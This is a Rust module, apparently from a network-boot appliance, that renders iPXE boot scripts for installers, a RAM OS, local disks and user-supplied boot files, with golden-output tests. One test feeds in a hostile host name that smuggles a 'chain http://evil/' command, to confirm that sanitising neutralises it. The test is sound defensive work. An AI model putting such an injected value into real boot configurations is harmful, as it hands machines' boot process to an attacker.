//! The decision as an iPXE script (ipxe.org/scripting): first line `#!ipxe`, every value checked for what iPXE would split on.

use super::{args::KernelArgs, decide::BootDecision, own::OwnBoot};
use crate::host::{Arch, MacAddr};
use std::fmt::Write as _;

/// What a script needs beside the decision.
#[derive(Debug, Clone)]
pub struct ScriptContext<'a> {
    /// Of this box as the host reaches it, for example `http://192.168.77.1`; no slash at the end.
    pub box_url: &'a str,
    /// Shown on the host's screen.
    pub name: &'a str,
    /// The port it boots over.
    pub mac: MacAddr,
    /// Decides which RAM OS and which loader; what iPXE reports.
    pub arch: Arch,
    /// This boot's token in plain text, as hex; only for the RAM OS.
    pub token: &'a str,
    /// More kernel arguments, as a person set them.
    pub kernel_args: &'a str,
    /// How the text is fetched, and so how what it names is fetched where a loader speaks one protocol only.
    pub over: Over,
    /// What the files folder holds for this host; only for [`BootDecision::OwnFiles`].
    pub own: &'a OwnBoot,
    /// What boots; only for [`BootDecision::Installer`] and [`BootDecision::Live`].
    pub files: Option<&'a BootFiles>,
}

/// Kernel, initrds and arguments of an installer or a live system, rendered for one boot.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct BootFiles {
    /// The system's name, for the host's screen.
    pub title: String,
    /// Below the box's address, without a slash before it.
    pub kernel: String,
    pub initrds: Vec<String>,
    pub args: KernelArgs,
}

/// The protocol by which a loader asks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Over {
    Tftp,
    Http,
}

/// The script that a host gets which did not say who it is: it asks again with its address, UUID and serial number.
#[must_use]
pub fn ask_again(box_url: &str) -> String {
    format!(
        "#!ipxe\n\
         isset ${{netX/mac}} || dhcp\n\
         :ask\n\
         chain --replace {box_url}{} ||\n\
         echo Rackberry at {box_url} does not answer, trying again\n\
         sleep 3\n\
         goto ask\n",
        ASK
    )
}

/// Path and query by which iPXE says who it is.
pub const ASK: &str =
    "/boot.ipxe?mac=${netX/mac:hexhyp}&uuid=${uuid}&serial=${serial:uristring}&arch=${buildarch}&platform=${platform}";

/// A text that may stand in an iPXE `echo` or argument: whatever iPXE would expand, split or take as a comment is replaced.
#[must_use]
pub fn plain(text: &str) -> String {
    text.chars()
        .map(|c| if c.is_ascii_alphanumeric() || " .,:;!?()+-_/=%@".contains(c) && c != ';' { c } else { '?' })
        .collect()
}

/// Renders the script for a decision; [`BootDecision::Silence`] has none of ours and yields a polite exit.
#[must_use]
pub fn script(decision: BootDecision, context: &ScriptContext<'_>) -> String {
    let name = plain(context.name);
    let url = context.box_url;
    let mut out = String::from("#!ipxe\n");
    // Writing to a String cannot fail.
    let _ = match decision {
        BootDecision::RamOs(why) => {
            let arch = ram_os_arch(context.arch);
            let args = plain(context.kernel_args);
            write!(
                out,
                "echo Rackberry: {name}: starting the RAM OS, {why}\n\
                 :start\n\
                 kernel {url}/ramos/{arch}/vmlinuz initrd=early.img rackberry.url={url} rackberry.token={token} BOOTIF=01-{mac}{space}{args} || goto retry\n\
                 initrd --name early.img {url}/ramos/{arch}/early.img || goto retry\n\
                 boot || goto retry\n\
                 :retry\n\
                 echo Rackberry: the RAM OS did not load from {url}, trying again in 5 seconds\n\
                 imgfree\n\
                 sleep 5\n\
                 goto start\n",
                why = why.sentence(),
                token = context.token,
                mac = context.mac.hyphens(),
                space = if args.is_empty() { "" } else { " " },
            )
        }
        BootDecision::Installer | BootDecision::Live => match context.files {
            Some(files) => system(&mut out, &name, files, context),
            None => missing(&mut out, &name, context),
        },
        BootDecision::OwnFiles => own_files(&mut out, &name, context),
        BootDecision::LocalDisk | BootDecision::Silence => {
            // BIOS goes on to the next boot device; EDK2 would open its setup menu, so iPXE starts the disk's own loader
            // (ipxe.org/cmd/sanboot), which it does with the handles that shim and GRUB need. An iPXE too old for that
            // goes on to a GRUB of ours, and only if there is no system at all the firmware gets its turn.
            let suffix = efi_suffix(context.arch);
            write!(
                out,
                "echo Rackberry: {name} starts from its own disk\n\
                 iseq ${{platform}} efi && goto efi ||\n\
                 exit\n\
                 :efi\n\
                 set drive:int32 0\n\
                 :drive\n\
                 {tries}\
                 inc drive\n\
                 iseq ${{drive}} {DRIVES} || goto drive\n\
                 imgfree ||\n\
                 chain {url}/loaders/localdisk-{suffix}.efi ||\n\
                 chain {url}/loaders/localdisk-{suffix}.efi ||\n\
                 exit 1\n",
                tries = loaders(context.arch),
            )
        }
        BootDecision::NothingToBoot => write!(
            out,
            ":again\n\
             echo\n\
             echo Rackberry: {name} has an empty disk, and no install is armed.\n\
             echo Open the page of the box at {url} and press Install on {name}.\n\
             echo Asking again in 10 seconds.\n\
             sleep 10\n\
             chain --replace {url}{ASK} || goto again\n"
        ),
    };
    out
}

/// Kernel and initrds by HTTP. Each initrd has a name of its own, which a kernel started by UEFI reads from its arguments
/// (Linux `Documentation/admin-guide/efi-stub.rst`); an initrd that does not load starts everything over.
fn system(out: &mut String, name: &str, files: &BootFiles, context: &ScriptContext<'_>) -> std::fmt::Result {
    let url = context.box_url;
    let named = (0..files.initrds.len()).map(|at| format!("initrd=initrd{at}.img"));
    let args = files.args.clone().after(named);
    writeln!(out, "echo Rackberry: {name}: starting {}\n:start", plain(&files.title))?;
    writeln!(out, "kernel {url}/{} {} || goto retry", files.kernel, args.ipxe())?;
    for (at, initrd) in files.initrds.iter().enumerate() {
        writeln!(out, "initrd --name initrd{at}.img {url}/{initrd} || goto retry")?;
    }
    write!(
        out,
        "boot || goto retry\n\
         :retry\n\
         echo Rackberry: {} did not load from {url}, trying again in 5 seconds\n\
         imgfree\n\
         sleep 5\n\
         goto start\n",
        plain(&files.title)
    )
}

/// What was to boot could not be rendered: a readable screen with a retry.
fn missing(out: &mut String, name: &str, context: &ScriptContext<'_>) -> std::fmt::Result {
    let url = context.box_url;
    write!(
        out,
        ":again\n\
         echo Rackberry: {name}: what it shall boot could not be put together. The page of the box at {url} says why.\n\
         echo Asking again in 10 seconds.\n\
         sleep 10\n\
         chain --replace {url}{ASK} || goto again\n"
    )
}

/// Leads on to what a person put into the files folder; nothing there is a readable screen with a retry.
fn own_files(out: &mut String, name: &str, context: &ScriptContext<'_>) -> std::fmt::Result {
    let url = context.box_url;
    let server = url.strip_prefix("http://").and_then(|rest| rest.split(':').next()).unwrap_or_default();
    let retry = format!(
        ":retry\n\
         echo Rackberry: your file did not load from {url}, trying again in 5 seconds\n\
         sleep 5\n\
         chain --replace {url}{ASK} || goto retry\n"
    );
    match context.own {
        OwnBoot::Script(path) => write!(
            out,
            "echo Rackberry: {name}: your file {said}\nchain --replace {url}/{path} || goto retry\n{retry}",
            said = plain(path),
        ),
        // PXELINUX takes what it loads next from below option 210 (RFC 5071); on iPXE it also does so by HTTP.
        OwnBoot::Pxelinux => write!(
            out,
            "echo Rackberry: {name}: your PXELINUX configuration\n\
             set 210:string {url}/\n\
             chain {url}/pxelinux.0 || goto retry\nexit\n{retry}"
        ),
        OwnBoot::Grub => {
            let cpu = if efi_suffix(context.arch) == "arm64" { "aa64" } else { "x64" };
            write!(
                out,
                "echo Rackberry: {name}: your GRUB configuration\n\
                 chain tftp://{server}/grub/grub{cpu}.efi || goto retry\nexit 1\n{retry}"
            )
        }
        OwnBoot::Nothing => write!(
            out,
            ":again\n\
             echo\n\
             echo Rackberry: {name} is set to boot your own files, and none of them is for it.\n\
             echo Put {mac}.ipxe, {name}.ipxe or default.ipxe into the files folder of the box at {url}.\n\
             echo Asking again in 10 seconds.\n\
             sleep 10\n\
             chain --replace {url}{ASK} || goto again\n",
            mac = context.mac.hyphens(),
        ),
    }
}

/// iPXE for BIOS reports the build's 32 bits on every machine; our RAM OS for x86 has 64.
#[must_use]
pub fn ram_os_arch(arch: Arch) -> Arch {
    match arch {
        Arch::Aarch64 | Arch::Arm => Arch::Aarch64,
        Arch::X86 | Arch::X86_64 | Arch::Riscv64 | Arch::Loongarch64 => Arch::X86_64,
    }
}

/// How many local drives are tried.
const DRIVES: u32 = 4;

/// Folders of distributions whose shim is tried before the fallback loader: that one may be a leftover, or one that only
/// repairs boot entries and resets the machine.
pub(super) const DISTRIBUTIONS: &[&str] =
    &["debian", "ubuntu", "fedora", "centos", "redhat", "rocky", "almalinux", "opensuse", "sles"];

/// One `sanboot` line for each loader a disk may have, the fallback (`\EFI\BOOT\BOOT*.EFI`) last.
fn loaders(arch: Arch) -> String {
    let cpu = if efi_suffix(arch) == "arm64" { "aa64" } else { "x64" };
    let shims = DISTRIBUTIONS.iter().map(|name| format!(" --filename \\EFI\\{name}\\shim{cpu}.efi"));
    let others = [
        " --filename \\EFI\\Microsoft\\Boot\\bootmgfw.efi".to_owned(),
        format!(" --filename \\EFI\\systemd\\systemd-boot{cpu}.efi"),
        String::new(),
    ];
    shims.chain(others).map(|file| format!("sanboot --no-describe --drive ${{drive}}{file} ||\n")).collect()
}

fn efi_suffix(arch: Arch) -> &'static str {
    match ram_os_arch(arch) {
        Arch::Aarch64 => "arm64",
        _ => "x64",
    }
}

/// The architecture iPXE means by its `buildarch` setting.
#[must_use]
pub fn arch_of_buildarch(buildarch: &str) -> Option<Arch> {
    Some(match buildarch {
        "i386" => Arch::X86,
        "x86_64" => Arch::X86_64,
        "arm32" => Arch::Arm,
        "arm64" => Arch::Aarch64,
        "riscv64" => Arch::Riscv64,
        "loong64" => Arch::Loongarch64,
        _ => return None,
    })
}

#[cfg(test)]
pub(super) mod tests {
    use super::super::decide::Why;
    use super::*;

    pub(in crate::boot) fn context() -> ScriptContext<'static> {
        ScriptContext {
            box_url: "http://192.168.77.1",
            name: "node-01",
            mac: MacAddr([0x52, 0x54, 0, 0x77, 0, 1]),
            arch: Arch::X86,
            token: "00ff",
            kernel_args: "",
            over: Over::Http,
            own: &OwnBoot::Nothing,
            files: None,
        }
    }

    pub(in crate::boot) fn installer() -> BootFiles {
        BootFiles {
            title: "Debian 13".to_owned(),
            kernel: "images/aa/linux".to_owned(),
            initrds: vec!["images/aa/initrd.gz".to_owned(), "answers/tt/initrd".to_owned()],
            args: KernelArgs::parse("ds=nocloud;s=http://192.168.77.1/answers/tt/ rancher=['a'] quiet").unwrap(),
        }
    }

    #[test]
    fn an_installers_script_names_its_initrds_and_keeps_the_arguments() {
        let files = installer();
        let golden = "#!ipxe\n\
            echo Rackberry: node-01: starting Debian 13\n\
            :start\n\
            kernel http://192.168.77.1/images/aa/linux initrd=initrd0.img initrd=initrd1.img ds=nocloud;s=http://192.168.77.1/answers/tt/ rancher=['a'] quiet || goto retry\n\
            initrd --name initrd0.img http://192.168.77.1/images/aa/initrd.gz || goto retry\n\
            initrd --name initrd1.img http://192.168.77.1/answers/tt/initrd || goto retry\n\
            boot || goto retry\n\
            :retry\n\
            echo Rackberry: Debian 13 did not load from http://192.168.77.1, trying again in 5 seconds\n\
            imgfree\n\
            sleep 5\n\
            goto start\n";
        assert_eq!(script(BootDecision::Installer, &ScriptContext { files: Some(&files), ..context() }), golden);
        let none = script(BootDecision::Live, &context());
        assert!(none.contains("could not be put together") && !none.contains("kernel"), "{none}");
    }

    #[test]
    fn the_ram_os_script_is_the_reviewed_one() {
        let golden = "#!ipxe\n\
            echo Rackberry: node-01: starting the RAM OS, an install waits for this machine\n\
            :start\n\
            kernel http://192.168.77.1/ramos/x86_64/vmlinuz initrd=early.img rackberry.url=http://192.168.77.1 rackberry.token=00ff BOOTIF=01-52-54-00-77-00-01 || goto retry\n\
            initrd --name early.img http://192.168.77.1/ramos/x86_64/early.img || goto retry\n\
            boot || goto retry\n\
            :retry\n\
            echo Rackberry: the RAM OS did not load from http://192.168.77.1, trying again in 5 seconds\n\
            imgfree\n\
            sleep 5\n\
            goto start\n";
        assert_eq!(script(BootDecision::RamOs(Why::Install), &context()), golden);
    }

    #[test]
    fn local_disk_has_a_way_for_each_firmware() {
        let text = script(BootDecision::LocalDisk, &ScriptContext { arch: Arch::Aarch64, ..context() });
        assert!(
            text.contains("\nexit\n") && text.contains("localdisk-arm64.efi") && text.ends_with("exit 1\n"),
            "{text}"
        );
    }

    #[test]
    fn own_files_lead_where_the_files_are_and_never_to_a_disk() {
        let mut seen = Vec::new();
        for own in
            [OwnBoot::Script("52-54-00-77-00-01.ipxe".into()), OwnBoot::Pxelinux, OwnBoot::Grub, OwnBoot::Nothing]
        {
            let text = script(BootDecision::OwnFiles, &ScriptContext { own: &own, ..context() });
            assert!(!text.contains("sanboot") && !text.contains("/ramos/"), "{text}");
            let chains = text.lines().find(|line| line.contains("chain ")).unwrap_or_default().to_owned();
            seen.push(chains);
        }
        assert_eq!(seen.first().unwrap(), "chain --replace http://192.168.77.1/52-54-00-77-00-01.ipxe || goto retry");
        assert_eq!(seen.get(1).unwrap(), "chain http://192.168.77.1/pxelinux.0 || goto retry");
        assert_eq!(seen.get(2).unwrap(), "chain tftp://192.168.77.1/grub/grubx64.efi || goto retry");
    }

    #[test]
    fn a_hostile_name_cannot_add_a_command() {
        let evil = ScriptContext { name: "x\nchain http://evil/ || # ${next-server} ;&& y", ..context() };
        for decision in [BootDecision::LocalDisk, BootDecision::NothingToBoot, BootDecision::RamOs(Why::Policy)] {
            let clean = script(decision, &context());
            let text = script(decision, &evil);
            assert_eq!(text.lines().count(), clean.lines().count(), "{text}");
            let said = text.lines().find(|line| line.contains("evil")).unwrap();
            assert!(!said.contains(['$', '|', '&', '#', ';']), "{said}");
        }
    }
}
